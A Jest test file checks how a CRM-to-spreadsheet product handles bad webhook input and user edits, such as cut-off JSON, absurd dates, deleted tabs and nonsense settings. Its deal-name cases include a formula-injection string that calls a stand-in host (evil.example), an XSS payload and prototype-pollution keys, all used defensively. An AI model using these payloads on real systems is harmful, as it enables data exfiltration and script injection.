/**
 * What people and other programs send wrongly, through the whole product: each is answered in the user's language with what to do, and nothing is lost (Q186).
 * One host for all; deals have ids of their own, so that tests do not meet. Needs `npm run build` first.
 */
import { body, lead } from '../ingest/amo-body';
import { type Hands, openHands } from './hands';
import { mapping } from './lives';
import { NOW, newFolder, type ProductHost, type Row, removeFolder, settle, startProduct } from './product-host';

jest.setTimeout(180_000);
const AT = Date.parse(NOW) / 1000 - 86_400;
let host: ProductHost, english: ProductHost, hands: Hands;
const folders: string[] = [];
async function open(locale: 'ru' | 'en'): Promise<ProductHost> {
  const data = newFolder();
  folders.push(data);
  const started = await startProduct({ data, locale });
  for (const [key, rows] of Object.entries(mapping)) await started.put(key, rows);
  await settle(started);
  return started;
}
beforeAll(async () => {
  [host, english] = await Promise.all([open('ru'), open('en')]);
  hands = await openHands(host);
});
afterAll(async () => {
  hands?.away();
  await Promise.all([host, english].map((one) => one?.end()));
  folders.forEach(removeFolder);
});

const send = (text: string, how?: Parameters<ProductHost['post']>[1], to = host): Promise<string> =>
  to.post(text, how).then((answer) => `${answer?.status} ${answer?.said}`);
const problems = async (of = host): Promise<string[]> => (await of.rows('problems')).map(({ what, mend }) => `${what} ${mend}`);
const deal = async (id: number | string, of = host): Promise<Row | undefined> => (await of.rows('deals')).find(({ deal_id }) => deal_id === String(id));
const journal = (of = host): Promise<readonly Row[]> => of.rows('journal');
const withText = (rows: readonly Row[], text: string): readonly Row[] =>
  rows.filter((row) => [row['body'], row['body_2'], row['body_3']].join('').includes(text));
const idOf = async (key: string): Promise<{ readonly sheetId: number; readonly title: string }> => {
  const head = (await host.heads()).find((one) => one.key === key);
  if (!head) throw new Error(`no tab ${key}`);
  return head;
};
const placeOf = async (key: string, column: string): Promise<number> =>
  ((await host.ask('GET', `/api/tabs/${key}`)) as { readonly columns: readonly { readonly key: string; readonly index: number }[] }).columns.find(
    (one) => one.key === column,
  )?.index ?? -1;

describe('the address', () => {
  test.each([
    ['Russian', () => host, /ключ/i, /адрес.*Настройка/is],
    ['English', () => english, /key/i, /address.*Set-up/is],
  ] as const)('a wrong secret is refused in words that say what to do (%s), and keeps nothing', async (_language, of, what, mend) => {
    const before = (await journal(of())).length,
      said = await send(body('add', lead({ id: 501, at: AT })), { secret: 'guess' }, of());
    expect(said).toMatch(/^200 /);
    expect(said).toMatch(what);
    expect(said).toMatch(mend);
    expect((await journal(of())).length).toBe(before);
  });
  test('no secret at all', async () => expect(await send(body('add', lead({ id: 501, at: AT })), { secret: '' })).toMatch(/ключ/i));
  test('a CRM that nobody knows: kept, and told', async () => {
    await send(body('add', lead({ id: 502, at: AT })), { crm: 'amo' });
    await settle(host);
    expect((await problems()).join('\n')).toMatch(/неизвестная CRM в адресе: crm=amo/);
    expect(withText(await journal(), '=502&').length).toBe(1);
  });
});

describe('bodies', () => {
  test('no body: kept as unreadable, with a word', async () => {
    await send('');
    await settle(host);
    expect((await problems()).join('\n')).toMatch(/тело пустое.*Настройка/s);
    expect((await journal()).some(({ status, body: text }) => status === 'unreadable' && text === null)).toBe(true);
  });
  test('JSON where a form is expected is read all the same', async () => {
    await send(
      JSON.stringify({
        account: { id: 555, subdomain: 'proba' },
        leads: { add: [{ id: 511, name: 'Из JSON', status_id: 20, pipeline_id: 1, price: 7000, responsible_user_id: 1, created_at: AT, updated_at: AT }] },
      }),
      { type: 'application/json' },
    );
    await settle(host);
    expect(await deal(511)).toMatchObject({ deal: 'Из JSON', outcome: 'in_work', contract_amount: null });
  });
  test('JSON that is cut off: kept whole, told', async () => {
    await send('{"leads":{"add":[{"id":512,"name":"обрыв', { type: 'application/json' });
    await settle(host);
    expect(withText(await journal(), '"id":512').map(({ status }) => status)).toEqual(['unreadable']);
    expect((await problems()).join('\n')).toMatch(/не удалось прочитать.*Настройка/is);
  });
  test('a body cut in a key: the rest counts, the piece is named', async () => {
    await send(`${body('add', lead({ id: 513, at: AT, stage: 20, price: 8000, owner: 1 }))}&leads[add][0][custom_fields][0][va`);
    await settle(host);
    expect(await deal(513)).toMatchObject({ outcome: 'in_work', manager: 'Анна' });
    expect((await problems()).join('\n')).toMatch(/custom_fields.*va — название поля оборвано/);
  });
  test('5 MB: its beginning is kept, the limit is told, nothing else is harmed', async () => {
    const said = await send(`${body('add', lead({ id: 514, at: AT }))}&x=${'ы'.repeat(2_600_000)}`);
    expect(said).toMatch(/^200 /);
    await settle(host);
    const [row, ...others] = withText(await journal(), '=514&');
    expect([row?.['status'], others.length]).toEqual(['rejected', 0]);
    expect((await problems()).join('\n')).toMatch(/не больше.*1.?048.?576|1.?048.?576.*знаков/is);
  });
  test('an entity that nobody knows stands beside a lead that is told', async () => {
    await send(`${body('add', lead({ id: 515, at: AT, stage: 20, owner: 1 }))}&spaceships[add][0][id]=1`);
    await settle(host);
    expect(await deal(515)).toMatchObject({ outcome: 'in_work' });
    expect((await problems()).join('\n')).toMatch(/spaceships — неизвестный вид записи/);
  });
  test('ten thousand keys, a key a thousand brackets deep, a body of brackets only', async () => {
    const many = `${body('add', lead({ id: 516, at: AT, stage: 20, owner: 1 }))}&${Array.from({ length: 10_000 }, (_, i) => `leads[add][0][x${i}]=1`).join('&')}`,
      deep = `${body('add', lead({ id: 517, at: AT, stage: 20, owner: 1 }))}&a${'[b]'.repeat(1000)}=1`;
    for (const text of [many, deep, '[[[[]]]]=&]=[', `leads${'[0]'.repeat(30)}=1`, 'leads[__proto__][polluted]=1&leads[constructor][prototype][x]=2'])
      expect(await send(text)).toMatch(/^200 \S/);
    await settle(host);
    expect(await deal(516)).toMatchObject({ outcome: 'in_work' });
    expect(await deal(517)).toMatchObject({ outcome: 'in_work' });
    expect(withText(await journal(), '=516&')).not.toEqual([]);
  });
});

describe('values of a deal', () => {
  test('a negative amount is left out and named; the deal counts', async () => {
    await send(body('add', lead({ id: 521, at: AT, stage: 50, owner: 1, fields: { 900: '-5000' } })));
    await settle(host);
    expect(await deal(521)).toMatchObject({ outcome: 'contract', contract_amount: null });
    expect((await problems()).filter((one) => one.includes('521')).join('\n')).toMatch(/отрицательная сумма -5000.*Оплаты/s);
  });
  test.each([
    ['a contract day in the year 20260', 522, { 901: '577191744000' }],
    ['a day that is none', 523, { 901: '31.02.2026' }],
    ['words', 524, { 901: 'завтра' }],
  ])('an absurd day is left out and named: %s', async (_why, id, fields) => {
    await send(body('add', lead({ id, at: AT, stage: 50, owner: 1, price: 1000, fields: { 900: '1000', ...fields } })));
    await settle(host);
    expect(await deal(id)).toMatchObject({ outcome: 'contract', contract_amount: 1000 });
    expect((await problems()).filter((one) => one.includes(String(id))).join('\n')).toMatch(/дат/i);
  });
  test('created in 1970, changed in 2099: named, and later events still count', async () => {
    await send(body('add', lead({ id: 525, at: 4_070_908_800, created: 5, stage: 20, owner: 1, price: 1 })));
    await settle(host);
    await send(body('update', lead({ id: 525, at: AT + 60, created: AT, stage: 30, owner: 1, price: 2 })));
    await settle(host);
    expect(await deal(525)).toMatchObject({ outcome: expect.stringMatching(/in_work|measurement/) });
    expect((await problems()).filter((one) => /525|leads\.add/.test(one)).join('\n')).toMatch(/не похоже на (дату|время)/);
  });
  test.each([
    ['emoji and a family of them', 531, '🏠 Дом 👨‍👩‍👧‍👦 «люкс»'],
    ['right to left', 532, 'خانه جدید — בית חדש'],
    ['a formula that fetches', 533, '=IMPORTXML("http://evil.example/"&A1,"//a")'],
    ['a formula in other clothes', 534, '+SUM(A1:A9)'],
    ['minus', 535, '-2+3'],
    ['at', 536, '@SUM(1)'],
    ['an apostrophe', 537, "'кавычка"],
    ['a number', 538, '0071'],
    ['a date', 539, '1.12'],
    ['a tab and a line', 540, '\t=1+1\nвторая'],
    ['markup', 541, '<img src=x onerror=alert(1)>'],
    ['TRUE', 542, 'TRUE'],
    ['9,007,199,254,740,993', 543, '9007199254740993'],
  ])('a name is text, whatever it says: %s', async (_why, id, name) => {
    await send(body('add', lead({ id, at: AT, stage: 20, owner: 1, name, fields: { 906: name } })));
    await settle(host);
    expect(await deal(id)).toMatchObject({ deal: name.trim(), source: name.trim(), outcome: 'in_work' });
    const sources = (await host.rows('funnel_by_source')).map(({ source }) => source);
    expect(sources).toContain(name.trim());
  });
  test('a stage that nobody mapped: a row to map, a word, and counted at once when a person maps it', async () => {
    await send(body('add', lead({ id: 551, at: AT, stage: 777, owner: 1 })));
    await settle(host);
    const row = (await host.rows('stages')).find(({ stage_id }) => stage_id === '777');
    expect([row?.['outcome'], (await deal(551))?.['outcome']]).toEqual(['unmapped', 'unmapped']);
    expect((await problems()).join('\n')).toMatch(/Этап «777».*не сопоставлен.*Этапы/s);
    await host.put(
      'stages',
      (await host.rows('stages')).map((one) => (one['stage_id'] === '777' ? { ...one, outcome: 'Замер' } : one)),
    );
    await settle(host);
    expect(await deal(551)).toMatchObject({ outcome: 'measurement' });
    expect((await problems()).filter((one) => one.includes('«777»'))).toEqual([]);
  });
});

describe('what people type', () => {
  test('a plan of "abc" is not counted and named; put right, it counts', async () => {
    await host.put('plans', [{ period: '2026-11', level: 'Компания', metric: 'Оборот', value: 'abc' }]);
    await settle(host);
    expect((await problems()).join('\n')).toMatch(/abc/);
    expect((await host.rows('plan_fact')).filter(({ plan }) => Number(plan) > 0)).toEqual([]);
    await host.put('plans', [{ period: '2026-11', level: 'Компания', metric: 'Оборот', value: 100_000 }]);
    await settle(host);
    expect((await problems()).filter((one) => one.includes('abc'))).toEqual([]);
    expect((await host.rows('plan_fact')).some(({ level, metric, plan }) => level === 'company' && metric === 'turnover' && plan === 100_000)).toBe(true);
  });
  test('an expense without a day is not counted and named', async () => {
    await host.put('expenses', [{ day: null, article: 'Аренда', amount: 5000, every: 'once' }]);
    await settle(host);
    expect((await problems()).join('\n')).toMatch(/не указана.*(дат|день)/is);
    await host.put('expenses', []);
    await settle(host);
    expect((await problems()).filter((one) => /Аренда|не указана/i.test(one))).toEqual([]);
  });
  test('settings of nonsense: each named, the default used, reports go on', async () => {
    const before = await host.rows('settings');
    await host.put('settings', [
      ...before.map((row) =>
        row['key'] === 'small_n'
          ? { ...row, value: 'много' }
          : row['key'] === 'week_start'
            ? { ...row, value: 'октябрь' }
            : row['key'] === 'allocation_key'
              ? { ...row, value: '=1/0' }
              : row,
      ),
      { key: 'colour_of_the_sky', value: 'синий' },
      { key: 'currency', value: 'EUR' },
    ]);
    await settle(host);
    const said = (await problems()).join('\n');
    for (const word of ['много', 'октябрь', 'colour_of_the_sky', 'currency|Валюта']) expect(said).toMatch(new RegExp(word));
    await host.put('settings', [...before, {}, {}]);
    await settle(host);
    expect((await problems()).filter((one) => /много|октябрь|colour_of/.test(one))).toEqual([]);
  });
});

describe('what people do to tabs', () => {
  const say = async (): Promise<string> =>
    `${await host.call('tick', {}).then(
      () => '',
      (error: Error) => error.message,
    )}`;

  test('a header of `deals` renamed, another cleared: events are kept, the reader is told, repair mends, nothing is lost', async () => {
    const { sheetId } = await idOf('deals'),
      name = await placeOf('deals', 'deal'),
      stage = await placeOf('deals', 'stage_id');
    await send(body('add', lead({ id: 601, at: AT, stage: 20, owner: 1, name: 'До' })));
    await settle(host);
    await hands.type(sheetId, 0, name, 'Моё название');
    await hands.type(sheetId, 0, stage, '');
    expect(await send(body('add', lead({ id: 602, at: AT, stage: 20, owner: 1, name: 'Во время' })))).toMatch(/200 (kept|done)/);
    const told = await say();
    expect(told).toMatch(/колонки.*Починить листы/s);
    await host.menu('repair');
    await settle(host);
    expect([await deal(601), await deal(602)]).toMatchObject([
      { deal: 'До', stage_id: '20' },
      { deal: 'Во время', stage_id: '20' },
    ]);
    expect(withText(await journal(), '=602&').map(({ status }) => status)).toEqual(['done']);
  });

  test.each(['deals', 'deal_events'])('the tab `%s` deleted: events are kept, repair makes it anew from the journal', async (key) => {
    const { sheetId, title } = await idOf(key),
      before = await host.rows(key),
      id = key === 'deals' ? 611 : 612;
    await hands.remove(sheetId, title);
    expect(await send(body('add', lead({ id, at: AT, stage: 20, owner: 1, name: 'Без листа' })))).toMatch(/200 (kept|done)/);
    expect(await say()).toMatch(new RegExp(`Листа «${title}» нет.*Починить листы`, 's'));
    await host.menu('repair');
    await settle(host);
    const after = await host.rows(key);
    expect(after.filter(({ deal_id }) => deal_id !== String(id))).toEqual(before);
    expect(after.some(({ deal_id }) => deal_id === String(id))).toBe(true);
  });

  test('the journal deleted: what comes meanwhile waits in the overflow queue and is told after repair; deals told before stand', async () => {
    const { sheetId, title } = await idOf('journal'),
      before = await host.rows('deals');
    await hands.remove(sheetId, title);
    expect(await send(body('add', lead({ id: 621, at: AT, stage: 20, owner: 1, name: 'Без журнала' })))).toBe('200 kept');
    expect(await send(body('update', lead({ id: 541, at: AT + 5, stage: 30, owner: 1, name: 'Дважды' })))).toBe('200 kept');
    expect(await say()).toMatch(new RegExp(`Листа «${title}» нет`));
    await host.menu('repair');
    await settle(host);
    const after = await host.rows('deals'),
      told = new Set(['621', '541']);
    expect(after.filter(({ deal_id }) => !told.has(String(deal_id)))).toEqual(before.filter(({ deal_id }) => !told.has(String(deal_id))));
    expect([await deal(621), await deal(541)]).toMatchObject([{ deal: 'Без журнала' }, { deal: 'Дважды', outcome: 'measurement' }]);
  });

  test('a report deleted, and a tab of the user’s own given our title: his tab is left alone, ours comes back beside it under a title of its own', async () => {
    const { sheetId, title } = await idOf('turnover'),
      before = await host.rows('turnover');
    await hands.remove(sheetId, title);
    await hands.add(987_654, 'Мой лист');
    await hands.type(987_654, 0, 0, 'мои записи');
    await hands.rename(987_654, 'Мой лист', title);
    expect(await say()).toMatch(/Починить листы|^$/);
    await host.menu('repair');
    await settle(host);
    expect(await host.rows('turnover')).toEqual(before);
    expect((await idOf('turnover')).sheetId).not.toBe(987_654);
  });
});
